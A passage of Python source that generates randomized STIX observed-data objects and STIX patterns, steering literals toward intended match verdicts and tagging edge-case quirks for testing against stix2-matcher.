        return copy.deepcopy(observed)
    if not any(_is_embedded(x) or (isinstance(x, dict) and isinstance(x.get("objects"), list)
                                   and any(_is_embedded(y) for y in x["objects"])) for x in observed):
        return copy.deepcopy(observed)
    out = []
    loose = []
    for x in observed:
        if _is_embedded(x):
            od, scos = _unembed(x)
            loose.extend([od] + scos)
        elif isinstance(x, dict) and isinstance(x.get("objects"), list):
            objs = []
            for y in x["objects"]:
                if _is_embedded(y):
                    od, scos = _unembed(y)
                    objs.extend([od] + scos)
                else:
                    objs.append(copy.deepcopy(y))
            nx = copy.deepcopy({k: v for k, v in x.items() if k != "objects"})
            nx["objects"] = objs
            out.append(nx)
        else:
            out.append(copy.deepcopy(x))
    if loose:
        out.insert(0, {"type": "bundle", "id": "bundle--" + str(uuid.uuid5(UUID_NS, "embedded")),
                       "objects": loose})
    return out


def clone_objects(rng, objects):
    """Copies of a root object and what it references, with fresh ids (same values)."""
    mapping = {o["id"]: "%s--%s" % (o["type"], _uuid(rng)) for o in objects}
    out = []
    for o in objects:
        x = _rewrite_refs(o, mapping)
        x["id"] = mapping[o["id"]]
        out.append(x)
    return out


def make_world(rng):
    n_obs = wchoice(rng, [(1, 38), (2, 32), (3, 20), (4, 10)])
    t0 = _dt.datetime(rng.randint(2015, 2024), rng.randint(1, 12), rng.randint(1, 28),
                      rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))
    offsets = [0]
    for _ in range(n_obs - 1):
        offsets.append(offsets[-1] + rng.choice([0, 1, 30, 60, 120, 299, 300, 301, 600, 1800, 3600, 86400]))
    if rng.random() < 0.3:
        rng.shuffle(offsets)
    observations = []
    previous_roots = []
    for i in range(n_obs):
        first = t0 + _dt.timedelta(seconds=offsets[i])
        if rng.random() < 0.1:
            first += _dt.timedelta(microseconds=rng.choice([123000, 500000, 999000]))
        last = first + _dt.timedelta(seconds=rng.choice([0, 0, 0, 1, 10, 60, 300]))
        n = wchoice(rng, [(1, 62), (2, 18), (3, 10), (5, 7), (10, 3)])
        b = Builder(rng, t0)
        if previous_roots and rng.random() < 0.4:
            b.objects.extend(clone_objects(rng, rng.choice(previous_roots)))
        n_roots = wchoice(rng, [(1, 45), (2, 35), (3, 20)])
        for _ in range(n_roots):
            start = len(b.objects)
            b.make(wchoice(rng, ROOT_TYPES), depth=2)
            previous_roots.append(b.objects[start:])
        fs = "" if first.microsecond == 0 else "ms"
        observations.append(Observation("observed-data--" + _uuid(rng), first, last, n, b.objects,
                                        fs if rng.random() < 0.8 else "ms0" if fs == "" else fs,
                                        fs))
    style = wchoice(rng, [("bundle", 74), ("bundles", 15), ("split", 3), ("embedded", 5), ("embedded-bundle", 3)])
    return World(rng, observations, style)


# --------------------------------------------------------------------------------------------
# Object paths: enumerate, render, evaluate (an approximation of stix2-matcher's semantics used only
# to steer literals towards the wanted verdict; the reference verdict always comes from stix2-matcher)

def enumerate_paths(obj, by_id, rng):
    out = []

    def walk(value, prefix, depth):
        if isinstance(value, dict):
            for k, v in value.items():
                if not prefix and k in ("type", "id", "spec_version"):
                    continue
                if prefix and k in ("id", "spec_version"):
                    continue
                p = prefix + [("key", k)]
                if k.endswith("_ref") and isinstance(v, str):
                    tgt = by_id.get(v)
                    if tgt is not None and depth < 3:
                        walk(tgt, p, depth + 1)
                    out.append((p, "raw-ref"))
                    continue
                if k.endswith("_refs") and isinstance(v, list):
                    if not v:
                        continue
                    tgt = by_id.get(v[0])
                    if tgt is not None and depth < 3:
                        walk(tgt, p + [("star",)], depth + 1)
                        walk(tgt, p + [("idx", 0)], depth + 1)
                    if len(v) > 1 and by_id.get(v[-1]) is not None and depth < 3:
                        walk(by_id[v[-1]], p + [("idx", len(v) - 1)], depth + 1)
                    continue
                walk(v, p, depth)
        elif isinstance(value, list):
            if not value:
                return
            out.append((prefix, "list"))
            walk(value[0], prefix + [("star",)], depth)
            walk(value[0], prefix + [("idx", 0)], depth)
            if len(value) > 1:
                walk(value[-1], prefix + [("idx", len(value) - 1)], depth)
        else:
            out.append((prefix, "leaf"))

    walk(obj, [], 0)
    return out


def eval_path(obj, tokens, by_id):
    """Values selected by tokens (list) on obj, dereferencing *_ref(s) within by_id."""
    vals = [obj]
    for tok in tokens:
        new = []
        if tok[0] == "key":
            k = tok[1]
            for v in vals:
                if isinstance(v, dict) and k in v:
                    x = v[k]
                    if k.endswith("_hex") and isinstance(x, str):
                        try:
                            x = bytes.fromhex(x)
                        except ValueError:
                            continue
                    elif k.endswith("_bin") and isinstance(x, str):
                        try:
                            x = base64.b64decode(x, validate=True)
                        except ValueError:
                            continue
                    if k.endswith("_ref"):
                        if isinstance(x, str) and x in by_id:
                            new.append(by_id[x])
                        continue
                    if k.endswith("_refs"):
                        if isinstance(x, list):
                            d = [by_id[r] for r in x if isinstance(r, str) and r in by_id]
                            if d:
                                new.append(d)
                        continue
                    new.append(x)
        elif tok[0] == "idx":
            for v in vals:
                if isinstance(v, list) and 0 <= tok[1] < len(v):
                    new.append(v[tok[1]])
        else:
            for v in vals:
                if isinstance(v, list):
                    new.extend(v)
        vals = new
    return vals


def render_path(otype, tokens, rng, tags, force_quote=False):
    s = otype + ":"
    first = True
    for tok in tokens:
        if tok[0] == "key":
            k = tok[1]
            quoted = force_quote or not SIMPLE_KEY.match(k) or rng.random() < 0.04
            if quoted:
                tags.append("path.quoted-key")
            part = lit_str(k) if quoted else k
            s += part if first else "." + part
        elif tok[0] == "idx":
            s += "[%d]" % tok[1]
        else:
            s += "[*]"
        first = False
    return s


def path_tags(tokens):
    tags = []
    keys = [t[1] for t in tokens if t[0] == "key"]
    if len(keys) > 1:
        tags.append("path.nested")
    if any(t[0] == "idx" for t in tokens):
        tags.append("path.index")
    if any(t[0] == "star" for t in tokens):
        tags.append("path.index-star")
    if any(k.endswith("_ref") for k in keys[:-1]):
        tags.append("path.ref")
    if any(k.endswith("_refs") for k in keys):
        tags.append("path.refs")
    if keys and keys[-1].endswith("_hex"):
        tags.append("path.hex-prop")
    if keys and keys[-1].endswith("_bin"):
        tags.append("path.bin-prop")
    if keys and keys[0] == "extensions":
        tags.append("path.extension")
    return tags


MISSING_PATHS = [
    [("key", "x_not_there")],
    [("key", "hashes"), ("key", "TLSH")],
    [("key", "extensions"), ("key", "archive-ext"), ("key", "comment")],
    [("key", "description")],
    [("key", "labels"), ("idx", 7)],
    [("key", "nonexistent_refs"), ("star",), ("key", "value")],
    [("key", "x_deep"), ("key", "a"), ("key", "b")],
]


# --------------------------------------------------------------------------------------------
# Approximate predicate (stix2-matcher semantics, enough to pick literals)

def _as_cmp(v, lit):
    """(a, b) comparable pair or None."""
    if isinstance(lit, _dt.datetime):
        if isinstance(v, str):
            pv = parse_ts(v)
            return (pv, lit) if pv is not None else None
        return None
    if isinstance(v, bool) or isinstance(lit, bool):
        return (v, lit) if type(v) is bool and type(lit) is bool else None
    if isinstance(v, (int, float)) and isinstance(lit, (int, float)):
        return (v, lit)
    if isinstance(v, str) and isinstance(lit, str):
        return (v, lit)
    if isinstance(v, bytes) and isinstance(lit, bytes):
        return (v, lit)
    if isinstance(v, bytes) and isinstance(lit, str) and all(ord(c) < 256 for c in lit):
        return (v, lit.encode("latin-1"))
    if isinstance(v, str) and isinstance(lit, bytes) and all(ord(c) < 256 for c in v):
        return (v.encode("latin-1"), lit)
    return None


def _like_rx(pattern):
    out = ["^"]
    for c in pattern:
        if c == "%":
            out.append(".*")
        elif c == "_":
            out.append(".")
        else:
            out.append(c if c.isalnum() else "\\" + c)
    out.append("$")
    return "".join(out)


def _ip_net(s):
    try:
        return ipaddress.ip_network(s, strict=False)
    except ValueError:
        return None


def approx_one(op, v, lit):
    if op in ("=", "!="):
        p = _as_cmp(v, lit)
        r = p is not None and p[0] == p[1]
        return r if op == "=" else not r
    if op in ("<", ">", "<=", ">="):
        p = _as_cmp(v, lit)
        if p is None:
            return None   # "false, NOT not applied" in the reference
        a, b = p
        return {"<": a < b, ">": a > b, "<=": a <= b, ">=": a >= b}[op]
    if op == "IN":
        for x in lit:
            p = _as_cmp(v, x)
            if p is not None and p[0] == p[1]:
                return True
        return False
    if op == "LIKE":
        if isinstance(v, bytes):
            try:
                v = v.decode("utf-8")
            except UnicodeDecodeError:
                return None
        if not isinstance(v, str):
            return False
        return re.match(_like_rx(unicodedata.normalize("NFC", lit)), unicodedata.normalize("NFC", v),
                        re.S) is not None
    if op == "MATCHES":
        try:
            if isinstance(v, str):
                return re.search(unicodedata.normalize("NFC", lit), unicodedata.normalize("NFC", v)) is not None
            if isinstance(v, bytes) and all(ord(c) < 256 for c in lit):
                return re.search(lit.encode("latin-1"), v) is not None
        except re.error:
            return None
        return False
    if op in ("ISSUBSET", "ISSUPERSET"):
        if not isinstance(v, str):
            return False
        a, b = _ip_net(v), _ip_net(lit)
        if a is None or b is None or a.version != b.version:
            return None
        return a.subnet_of(b) if op == "ISSUBSET" else b.subnet_of(a)
    return None


def approx(op, neg, values, lit):
    """True/False if the comparison surely has that result for this value list, None if unsure."""
    unsure = False
    for v in values:
        r = approx_one(op, v, lit)
        if r is None:
            if op in ("<", ">", "<=", ">="):
                continue
            unsure = True
            continue
        if neg:
            r = not r
        if r:
            return True
    return None if unsure else False


# --------------------------------------------------------------------------------------------
# Literals

def kind_of(tokens, values):
    keys = [t[1] for t in tokens if t[0] == "key"]
    last = keys[-1] if keys else ""
    vs = [v for v in values]
    if last.endswith("_hex"):
        return "hex"
    if last.endswith("_bin"):
        return "bin"
    if not vs:
        return "missing"
    v = vs[0]
    if isinstance(v, bool):
        return "bool"
    if isinstance(v, int):
        return "int"
    if isinstance(v, float):
        return "float"
    if isinstance(v, str):
        if parse_ts(v) is not None:
            return "ts"
        n = _ip_net(v)
        if n is not None and ("." in v or ":" in v) and not v.startswith("ftp"):
            return "ip%d%s" % (n.version, "cidr" if "/" in v else "")
        return "str"
    return "complex"


class Lit:
    __slots__ = ("py", "text", "tags")

    def __init__(self, py, text, tags):
        self.py, self.text, self.tags = py, text, tags


def L_str(s):
    return Lit(s, lit_str(s), str_tags(s))


def L_int(i, plus=False):
    tags = ["lit.int"] + (["lit.int.negative"] if i < 0 else [])
    if plus and i >= 0:
        tags.append("lit.int.plus-sign")
        return Lit(i, "+%d" % i, tags)
    return Lit(i, str(i), tags)


def L_float(f):
    tags = ["lit.float"] + (["lit.float.negative"] if f < 0 else [])
    return Lit(float(f), fmt_float(f), tags)


def L_bool(b):
    return Lit(b, "true" if b else "false", ["lit.bool"])


def L_ts(t, style=None):
    tags = ["lit.timestamp"]
    if t.microsecond or style in ("ms", "us", "ms0"):
        tags.append("lit.timestamp.fraction")
    return Lit(t, lit_ts(t, style), tags)


def L_hex(b, upper=False):
    h = b.hex()
    return Lit(b, "h'" + (h.upper() if upper else h) + "'", ["lit.hex"])


def L_bin(b):
    return Lit(b, "b'" + base64.b64encode(b).decode() + "'", ["lit.binary"])


def scalar_candidates(rng, kind, values):
    """Literals near the property's values (for =, !=, <, >, <=, >=, IN)."""
    base = rng.choice(values) if values else None
    c = []
    if kind == "str" and is_digest(base):
        # hashes: keep every literal a well-formed digest (stix2-patterns' validator checks them)
        pool = [h for h in MD5S + SHA1S + SHA256S if len(h) == len(base) and h != base]
        i = rng.randrange(len(base))
        flipped = base[:i] + ("0" if base[i] != "0" else "1") + base[i + 1:]
        c += [L_str(base), L_str(base), L_str(flipped), L_str(rng.choice(pool)) if pool else L_str(flipped)]
        if base.swapcase() != base:
            c.append(L_str(base.swapcase()))
    elif kind == "str" or kind.startswith("ip"):
        c += [L_str(base), L_str(base), L_str(mutate_str(rng, base)), L_str(mutate_str(rng, base))]
        if len(base) > 1:
            c.append(L_str(base[:len(base) // 2]))
        c.append(L_str(rng.choice(values)))
        nfd = unicodedata.normalize("NFD", base)
        nfc = unicodedata.normalize("NFC", base)
        if nfc != base and rng.random() < 0.6:
            lit = L_str(nfc)
            lit.tags += ["unicode.nfc-literal", "quirk.nfc-equality"]
            c.append(lit)
        if nfd != base and rng.random() < 0.6:
            lit = L_str(nfd)
            lit.tags += ["unicode.nfd-literal", "quirk.nfc-equality"]
            c.append(lit)
    elif kind == "int":
        c += [L_int(base), L_int(base), L_int(base + 1), L_int(base - 1), L_int(-base - 1),
              L_float(base + 0.5), L_int(base, plus=rng.random() < 0.3)]
        f = L_float(float(base))
        f.tags.append("num.int-float-mix")
        c.append(f)
    elif kind == "float":
        c += [L_float(base), L_float(base), L_float(base + 0.5), L_float(base - 0.25), L_float(-abs(base) - 0.5),
              L_int(int(round(base)))]
    elif kind == "bool":
        c += [L_bool(base), L_bool(not base)]
    elif kind == "ts":
        t = parse_ts(base)
        c += [L_ts(t), L_ts(t, rng.choice(["", "ms", "us", "ms0"]) if t.microsecond == 0 else "us"),
              L_ts(t + _dt.timedelta(seconds=1)), L_ts(t - _dt.timedelta(seconds=1)),
              L_ts(t + _dt.timedelta(days=1)), L_ts(t - _dt.timedelta(milliseconds=1), "ms"
                                                    if (t - _dt.timedelta(milliseconds=1)).microsecond % 1000 == 0
                                                    else "us")]
    elif kind in ("hex", "bin"):
        b = base
        c += [L_hex(b), L_hex(b, upper=True), L_bin(b) if b else L_hex(b)]
        if b:
            c += [L_hex(b[:-1] + bytes([(b[-1] + 1) % 256])), L_bin(b + b"\x00"), L_hex(b[:-1])]
    elif kind == "complex":
        c += [L_str("x"), L_int(1)]
    return c


def gen_set(rng, kind, values, cands):
    """A set literal from candidates of one type (mostly)."""
    pool = [x for x in cands if x.text]
    k = rng.randint(1, min(4, len(pool)))
    picked = []
    texts = []
    for x in rng.sample(pool, k):
        if x.text not in texts:
            picked.append(x)
            texts.append(x.text)
    # keep one type unless int/float (mixing those is fine)
    t0 = type(picked[0].py)
    same = [x for x in picked if type(x.py) is t0 or (isinstance(x.py, (int, float)) and not isinstance(x.py, bool)
                                                      and isinstance(picked[0].py, (int, float)))]
    tags = ["lit.set"]
    for x in same:
        tags += x.tags
    if len(same) > 1:
        tags.append("lit.set.multi")
    return Lit([x.py for x in same], "(" + ", ".join(x.text for x in same) + ")", tags)


def like_candidates(rng, s):
    n = len(s)
    out = [s]
    if n >= 2:
        i = rng.randrange(1, n)
        out.append(s[:i] + "%")
        out.append("%" + s[i:])
    if n >= 3:
        i = rng.randrange(0, n - 2)
        j = rng.randrange(i + 1, n)
        out.append("%" + s[i:j] + "%")
    if n >= 1:
        k = rng.randrange(n)
        out.append(s[:k] + "_" + s[k + 1:])
    out.append("%")
    out.append(s + "_")
    out.append(mutate_str(rng, s) + "%")
    if s.swapcase() != s:
        out.append(s.swapcase())
    return out


def regex_candidates(rng, s):
    n = len(s)
    out = [("^" + rx_escape(s) + "$", [])]
    if n >= 2:
        i = rng.randrange(1, n)
        out.append(("^" + rx_escape(s[:i]), []))
        out.append((rx_escape(s[i:]) + "$", []))
    if n >= 3:
        i = rng.randrange(0, n - 2)
        j = rng.randrange(i + 1, n)
        out.append((rx_escape(s[i:j]), []))
        out.append(("^" + rx_escape(s[:i]) + ".*" + rx_escape(s[j:]) + "$", []))
    if re.search(r"\d", s):
        out.append(("^" + re.sub(r"\\\d|\d+", lambda m: r"\d+", rx_escape(s)) + "$", ["regex.class"]))
    if re.search(r"[A-Za-z]{2,}", s):
        out.append((re.sub(r"[A-Za-z]{2,}", "[A-Za-z]+", rx_escape(s), count=1), ["regex.class"]))
    if s.upper() != s and s.isascii():
        out.append(("(?i)^" + rx_escape(s.upper()) + "$", ["regex.inline-flag"]))
    out.append(("^(" + rx_escape(s) + "|" + rx_escape(mutate_str(rng, s)) + ")$", ["regex.alternation"]))
    out.append(("^" + rx_escape(mutate_str(rng, s)) + "$", []))
    out.append((rx_escape(s) + "ZZ", []))
    out.append((".{%d,}" % (n + 1), ["regex.quantifier"]))
    out.append((".{%d}" % n if n else "^$", ["regex.quantifier"]))
    return out


def cidr_candidates(rng, kind, v):
    net = _ip_net(v)
    out = []
    if net is None:
        return out
    if net.version == 4:
        for p in (8, 16, 24, 32):
            if p >= net.prefixlen or "/" not in v:
                out.append((str(ipaddress.ip_network("%s/%d" % (net.network_address, p), strict=False)), []))
        other = _ip_net(rng.choice(IPV4))
        out.append((str(ipaddress.ip_network("%s/24" % other.network_address, strict=False)), []))
        out.append(("%s/32" % rng.choice(IPV4), []))
        if rng.random() < 0.1:
            out.append(("0.0.0.0/0", ["quirk.cidr-prefix-0"]))
    else:
        for p in (10, 32, 64, 128):
            if p >= net.prefixlen or "/" not in v:
                out.append((str(ipaddress.ip_network("%s/%d" % (net.network_address, p), strict=False)), []))
        out.append(("2001:db8:ffff::/48", []))
    return out


def superset_candidates(rng, kind, v):
    net = _ip_net(v)
    out = []
    if net is None:
        return out
    if net.version == 4:
        if net.num_addresses > 1:
            out.append((str(net.network_address + 1), []))
            out.append(("%s/%d" % (net.network_address, min(32, net.prefixlen + 1)), []))
        out.append((str(net.network_address), []))
        out.append((rng.choice(IPV4), []))
        out.append(("%s/%d" % (net.network_address, max(1, net.prefixlen - 1)), []))
    else:
        out.append((str(net.network_address), []))
        out.append(("2001:db8:ffff::1", []))
    return out


# --------------------------------------------------------------------------------------------
# Pattern generation

OPS = ["=", "!=", "<", ">", "<=", ">=", "IN", "LIKE", "MATCHES", "ISSUBSET", "ISSUPERSET", "EXISTS"]
OP_TAG = {"=": "op.eq", "!=": "op.neq", "<": "op.lt", ">": "op.gt", "<=": "op.le", ">=": "op.ge", "IN": "op.in",
          "LIKE": "op.like", "MATCHES": "op.matches", "ISSUBSET": "op.issubset", "ISSUPERSET": "op.issuperset",
          "EXISTS": "op.exists"}


class Gen:
    """Generates one pattern for one world, steering towards a wanted verdict."""

    def __init__(self, rng, world):
        self.rng = rng
        self.world = world
        self.tags = []
        self.in_boolean = False

    # ---- comparison leaves
    def pick_target(self, pref=None):
        obs = self.world.observations
        order = sorted(range(len(obs)), key=lambda i: obs[i].first)
        if pref == "early":
            cand = order[:max(1, (len(order) + 1) // 2)]
        elif pref == "late":
            cand = order[len(order) // 2:]
        else:
            cand = order
        oi = self.rng.choice(cand)
        o = obs[oi]
        return oi, self.rng.choice(o.objects)

    def comparison(self, target, want, force_op=None, force_neg=None):
        """One comparison on target (obs_index, obj) -> text."""
        rng = self.rng
        oi, obj = target
        by_id = self.world.observations[oi].by_id
        otype = obj["type"]
        tags = ["type." + otype]
        op = force_op
        neg = force_neg if force_neg is not None else (rng.random() < 0.22)

        if op == "EXISTS" or (op is None and rng.random() < (0.008 if self.in_boolean else 0.05)):
            return self.exists(obj, by_id, want, neg if force_neg is not None else rng.random() < 0.35, tags)

        paths = enumerate_paths(obj, by_id, rng)
        leafs = [p for p, k in paths if k == "leaf"]
        if op is None and (not leafs or (not want and rng.random() < 0.05)):
            tokens = rng.choice(MISSING_PATHS)
            tags.append("path.missing")
            values = []
        elif op is None and paths and rng.random() < 0.02:
            tokens, k = rng.choice(paths)
            if k == "raw-ref":
                tags.append("quirk.ref-raw")
                txt = render_path(otype, tokens, rng, tags) + " = " + lit_str(eval_raw(obj, tokens, by_id) or "x")
                tags.append("op.eq")
                self.tags += tags
                return txt
            values = eval_path(obj, tokens, by_id)
            tags.append("path.non-leaf")
        else:
            tokens = self.pick_leaf(leafs, op)
            if tokens is not None and rng.random() < 0.04 and any(t[0] == "idx" for t in tokens):
                tokens = [("idx", -1) if t[0] == "idx" else t for t in tokens]
                tags.append("path.index-negative")
            if tokens is None:
                tokens = rng.choice(MISSING_PATHS)
                tags.append("path.missing")
                values = []
            else:
                values = eval_path(obj, tokens, by_id)
        tags += path_tags(tokens)
        kind = kind_of(tokens, values) if values else "missing"
        if kind == "missing" and "path.missing" not in tags:
            tags.append("path.missing")
        if op is None:
            op = self.pick_op(kind)
            if "hashes" in [t[1] for t in tokens if t[0] == "key"] and op in ("IN", "LIKE", "MATCHES") \
                    and rng.random() < 0.75:
                op = rng.choice(["=", "=", "!="])   # the validator rejects these on hashes (quirk)
        ptxt = render_path(otype, tokens, rng, tags)
        lit = self.literal(kind, op, neg, values, want, tags)
        if lit is None:
            op = "="
            lit = self.literal(kind, op, neg, values, want, tags)
        optext = op
        if op == "=" and rng.random() < 0.05:
            optext = "=="
            tags.append("op.eq.double")
        elif op == "!=" and rng.random() < 0.08:
            optext = "<>"
            tags.append("op.neq.angle")
        tags.append(OP_TAG[op])
        if neg:
            tags.append(OP_TAG[op] + ".not")
        tags += lit.tags
        if "/" in lit.text and op in ("ISSUBSET", "ISSUPERSET"):
            tags.append("cidr.ipv6" if ":" in lit.text else "cidr.ipv4")
        if op in ("ISSUBSET", "ISSUPERSET") and ":" in lit.text:
            tags.append("quirk.ipv6-cidr")
        self.quirk_tags(op, neg, kind, values, lit, tags, tokens)
        if op in ("ISSUBSET", "ISSUPERSET", "LIKE"):
            self.world_quirks(otype, tokens, op, tags)
        self.tags += tags
        return "%s %s%s %s" % (ptxt, "NOT " if neg else "", optext, lit.text)

    def quirk_tags(self, op, neg, kind, values, lit, tags, tokens):
        if op in ("ISSUBSET", "ISSUPERSET") and kind not in ("ip4", "ip4cidr", "ip6", "ip6cidr"):
            if values:
                tags.append("quirk.subset-non-ip")
        if op == "ISSUPERSET" and kind in ("ip4", "ip6"):
            tags.append("quirk.issuperset-plain-ip")
        if isinstance(lit.py, _dt.datetime) or (isinstance(lit.py, list) and lit.py and
                                                 isinstance(lit.py[0], _dt.datetime)):
            if any(isinstance(v, str) and parse_ts(v) is None for v in values):
                tags.append("quirk.ts-literal-vs-non-ts")
        if op == "LIKE" and kind in ("hex", "bin"):
            tags.append("quirk.like-binary")
        if op == "IN" and isinstance(lit.py, list):
            def num(x):
                return isinstance(x, (int, float)) and not isinstance(x, bool)
            if (any(isinstance(v, bool) for v in values) and any(num(x) for x in lit.py)) or \
                    (any(num(v) for v in values) and any(isinstance(x, bool) for x in lit.py)):
                tags.append("quirk.in-bool-int")
        if op in ("<", ">", "<=", ">=") and neg and values and all(_as_cmp(v, lit.py) is None for v in values):
            tags.append("quirk.not-order-cross-type")
        if op in ("=", "!=") and values and all(_as_cmp(v, lit.py) is None for v in values):
            tags.append("cmp.cross-type")
            if (op == "!=") != neg:
                tags.append("quirk.cross-type-neq")
        elif op in ("<", ">", "<=", ">=", "IN") and values and not isinstance(lit.py, list) and \
                all(_as_cmp(v, lit.py) is None for v in values):
            tags.append("cmp.cross-type")
        if kind == "ts" and any(isinstance(v, str) and len((TS_RE.match(v).group(7) or "")) > 7 for v in values):
            tags.append("quirk.ts-subsecond")
        if kind == "str" and op in ("=", "!=", "IN", "<", ">", "<=", ">=") and any(
                isinstance(v, str) and unicodedata.normalize("NFC", v) != v for v in values):
            tags.append("quirk.nfc-equality")
        keys = [t[1] for t in tokens if t[0] == "key"]
        if "hashes" in keys and op in ("IN", "LIKE", "MATCHES") and keys[-1] != "hashes":
            tags.append("quirk.validator-hash-format")

    def world_quirks(self, otype, tokens, op, tags):
        """stix2-matcher tests every object of the type in every observation, so a value elsewhere in
        the observed data can make it raise: tag what the other objects hold."""
        vals = []
        for o in self.world.observations:
            for x in o.objects:
                if x.get("type") == otype:
                    vals.extend(eval_path(x, tokens, o.by_id))
        if op == "LIKE":
            for v in vals:
                if isinstance(v, bytes):
                    try:
                        v.decode("utf-8")
                    except UnicodeDecodeError:
                        tags.append("quirk.like-binary")
                        break
            return
        for v in vals:
            if not isinstance(v, str):
                continue
            n = _ip_net(v)
            if n is None or not ("." in v or ":" in v):
                tags.append("quirk.subset-non-ip")
            elif n.version == 6:
                tags.append("quirk.ipv6-cidr")
            elif op == "ISSUPERSET" and "/" not in v:
                tags.append("quirk.issuperset-plain-ip")

    def pick_leaf(self, leafs, op):
        rng = self.rng
        if not leafs:
            return None
        if op in ("ISSUBSET", "ISSUPERSET"):
            ipl = [p for p in leafs if p and p[-1] == ("key", "value")]
            return rng.choice(ipl) if ipl else rng.choice(leafs)
        # prefer interesting paths a bit
        interesting = [p for p in leafs if len(p) > 1]
        if interesting and rng.random() < 0.45:
            return rng.choice(interesting)
        return rng.choice(leafs)

    def pick_op(self, kind):
        rng = self.rng
        if kind in ("str",):
            return wchoice(rng, [("=", 20), ("!=", 7), ("<", 3), (">", 3), ("<=", 3), (">=", 3), ("IN", 10),
                                 ("LIKE", 13), ("MATCHES", 13), ("ISSUBSET", 0.15)])
        if kind == "ip4":
            return wchoice(rng, [("=", 10), ("!=", 3), ("IN", 4), ("LIKE", 3), ("MATCHES", 3), ("ISSUBSET", 14),
                                 ("ISSUPERSET", 1), ("<", 1), (">=", 1)])
        if kind == "ip4cidr":
            return wchoice(rng, [("=", 6), ("!=", 2), ("IN", 2), ("ISSUBSET", 8), ("ISSUPERSET", 10), ("LIKE", 1)])
        if kind in ("ip6", "ip6cidr"):
            return wchoice(rng, [("=", 10), ("!=", 3), ("IN", 4), ("LIKE", 3), ("MATCHES", 3), ("ISSUBSET", 2.5),
                                 ("ISSUPERSET", 1), ("<", 1), (">=", 1)])
        if kind in ("int", "float"):
            return wchoice(rng, [("=", 12), ("!=", 5), ("<", 6), (">", 6), ("<=", 6), (">=", 6), ("IN", 7)])
        if kind == "bool":
            return wchoice(rng, [("=", 10), ("!=", 4), ("IN", 3)])
        if kind == "ts":
            return wchoice(rng, [("=", 8), ("!=", 3), ("<", 5), (">", 5), ("<=", 4), (">=", 4), ("IN", 3),
                                 ("LIKE", 2), ("MATCHES", 2)])
        if kind in ("hex", "bin"):
            return wchoice(rng, [("=", 12), ("!=", 4), ("<", 2), (">", 2), ("<=", 1), (">=", 1), ("IN", 2),
                                 ("MATCHES", 6), ("LIKE", 0.6)])
        return wchoice(rng, [("=", 6), ("!=", 3), ("IN", 1), ("LIKE", 1), ("MATCHES", 1), ("<", 1)])

    def literal(self, kind, op, neg, values, want, tags):
        """A literal for op on values; picks one whose approximate result is `want` when possible."""
        rng = self.rng
        vals = values if values else [rng.choice(["example", 42, 1.5, True])]
        k = kind if kind != "missing" else kind_of([], vals)
        cands = []
        if op in ("=", "!=", "<", ">", "<=", ">="):
            cands = scalar_candidates(rng, k if k != "missing" else "str", vals)
            if op in ("<", ">", "<=", ">="):
                cands = [c for c in cands if not isinstance(c.py, bool)] or [L_int(1)]
            if k == "str" and rng.random() < 0.006:
                t = _dt.datetime(2020, 1, 2, 3, 4, 5)
                cands = [L_ts(t)]
            elif rng.random() < 0.05 and not is_digest(vals[0]):
                # cross-type literal
                cands = [L_str(str(vals[0])) if not isinstance(vals[0], str) else L_int(len(vals[0]))]
        elif op == "IN":
            base = scalar_candidates(rng, k if k != "missing" else "str", vals)
            if k in ("hex", "bin"):
                base = [c for c in base if "lit.hex" in c.tags]
            cands = [gen_set(rng, k, vals, base) for _ in range(6)]
            if k == "bool" and rng.random() < 0.25:
                cands = [Lit([1, 0], "(1, 0)", ["lit.set", "lit.int"]), Lit([1], "(1)", ["lit.set", "lit.int"])]
            elif k == "int" and any(v in (0, 1) for v in vals if not isinstance(v, bool)) and rng.random() < 0.4:
                cands = [Lit([True], "(true)", ["lit.set", "lit.bool"]),
                         Lit([False], "(false)", ["lit.set", "lit.bool"])]
            if rng.random() < 0.015:
                lit = Lit([1, "x"], "(" + rng.choice(["1, 'x'", "'a', true", "t'2020-01-01T00:00:00Z', 5"]) + ")",
                          ["lit.set", "error.set-mixed-types", "quirk.set-mixed-types"])
                cands = [lit]
        elif op == "LIKE":
            s = vals[0] if isinstance(vals[0], str) else None
            if isinstance(vals[0], bytes):
                try:
                    s = vals[0].decode("utf-8")
                except UnicodeDecodeError:
                    s = "%"
            if s is None:
                s = str(vals[0])
            cands = [L_str(x) for x in like_candidates(rng, rng.choice([v for v in vals if isinstance(v, str)] or [s]))]
        elif op == "MATCHES":
            if isinstance(vals[0], bytes):
                b = rng.choice(vals)
                pieces = ["^" + "".join("\\x%02x" % x for x in b[:3]), "".join("\\x%02x" % x for x in b[-2:]) + "$",
                          "^\\x00", "^" + "".join("\\x%02x" % x for x in b[:2]) + "\\x00"]
                cands = []
                for p in pieces:
                    lit = L_str(p)
                    lit.tags.append("op.matches.binary")
                    cands.append(lit)
            else:
                s = rng.choice([v for v in vals if isinstance(v, str)] or [str(vals[0])])
                cands = []
                for rx, t in regex_candidates(rng, s):
                    lit = L_str(rx)
                    lit.tags += t
                    cands.append(lit)
                if rng.random() < 0.015:
                    bad = rng.choice(["(", "[a-", "*x", "a{2,1}", "(?<"])
                    cands = [Lit(bad, lit_str(bad), ["lit.string", "error.bad-regex"])]
        elif op == "ISSUBSET":
            v = rng.choice(vals)
            cc = cidr_candidates(rng, k, v) if isinstance(v, str) else []
            if not cc:
                cc = [("10.0.0.0/8", []), ("198.51.100.0/24", [])]
            cands = [Lit(c, lit_str(c), ["lit.string"] + t) for c, t in cc]
            if rng.random() < 0.02:
                cands = [Lit("10.0.0.0/33", lit_str("10.0.0.0/33"), ["lit.string", "error.bad-cidr"])]
        elif op == "ISSUPERSET":
            v = rng.choice(vals)
            cc = superset_candidates(rng, k, v) if isinstance(v, str) else []
            if not cc:
                cc = [("10.0.0.5", []), ("198.51.100.1", [])]
            cands = [Lit(c, lit_str(c), ["lit.string"] + t) for c, t in cc]
        if not cands:
            return None
        good = [c for c in cands if approx(op, neg, values, c.py) is want]
        return rng.choice(good) if good else rng.choice(cands)

    def exists(self, obj, by_id, want, neg, tags):
        rng = self.rng
        paths = [p for p, k in enumerate_paths(obj, by_id, rng) if k in ("leaf", "list")]
        present = not want if neg else want
        if present and paths:
            tokens = rng.choice(paths)
        else:
            tokens = rng.choice(MISSING_PATHS)
            tags.append("path.missing")
        tags += path_tags(tokens)
        tags.append("op.exists")
        if neg:
            tags += ["op.exists.not", "quirk.exists-not-ignored"]
        if self.in_boolean:
            tags.append("quirk.exists-in-boolean")
        txt = render_path(obj["type"], tokens, rng, tags)
        self.tags += tags
